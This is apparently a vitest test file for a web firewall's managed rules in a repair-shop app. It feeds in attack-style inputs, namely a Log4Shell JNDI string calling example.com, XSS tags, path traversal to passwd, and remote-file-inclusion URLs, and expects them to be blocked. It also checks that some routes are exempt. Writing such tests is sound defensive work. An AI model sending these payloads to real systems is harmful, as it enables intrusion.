import { expect, it } from 'vitest';
import { isFiltered } from './managed-rules.ts';

const BROWSER = { 'user-agent': 'Mozilla/5.0' };

const asked = (url: string, headers: Record<string, string> = {}, body = '', method = 'GET') =>
  isFiltered({ method, url, headers: { ...BROWSER, ...headers } }, Buffer.from(body));

// AWS's documentation has these examples.
it.each([
  ['/api/repairs', { 'user-agent': 'Nessus' }],
  ['/api/repairs', { 'user-agent': '' }],
  ['/api/repairs', { referer: '$' + '{jndi:ldap://example.com/}' }],
  ['/api/repairs', { cookie: '<script>alert("hello")</script>' }],
  ['/api/repairs', { cookie: 'a'.repeat(10_241) }],
  [`/api/repairs?q=${'a'.repeat(2_047)}`, {}],
  [`/api/${'a'.repeat(1_020)}`, {}],
  ['/api/..%2f..%2fpasswd', {}],
  ['/web-inf/web.xml', {}],
  ['/server.log', {}],
  ['/?page=http://192.168.1.1/', {}],
  ['/?page=../../passwd', {}],
  ['/?page=%3Cscript%3Ealert(1)', {}],
])('The managed rules block %s with %j', (url, headers) => {
  expect(asked(url, headers)).toBe(true);
});

it('PROPFIND is blocked', () => {
  expect(asked('/', {}, '', 'PROPFIND')).toBe(true);
});

it.each([
  'box http://192.168.1.1 inaccessible',
  '../../ dans le nom du dossier',
  'le client a tapé <script>alert(1)</script>',
  'boot.ini absent',
])('A shop may write and search "%s"', (text) => {
  expect(asked('/api/repairs', {}, JSON.stringify({ issue: text }), 'POST')).toBe(false);
  expect(asked(`/api/repairs?q=${encodeURIComponent(text)}`)).toBe(false);
  expect(asked(`/?q=${encodeURIComponent(text)}`)).toBe(true);
});

it('Files and Stripe’s events are not searched for attacks', () => {
  const url = '/api/company/logo?filename=a.ini';
  expect(asked(url, { 'user-agent': '' })).toBe(false);
  expect(asked('/api/repairs/1/bonus/proofs', { 'user-agent': '' })).toBe(false);
  expect(asked('/api/repairs/1/pictures?picture=a.ini', { 'user-agent': '' })).toBe(false);
  expect(asked('/api/stripe/webhook', { 'user-agent': '$' + '{jndi:' })).toBe(false);
});
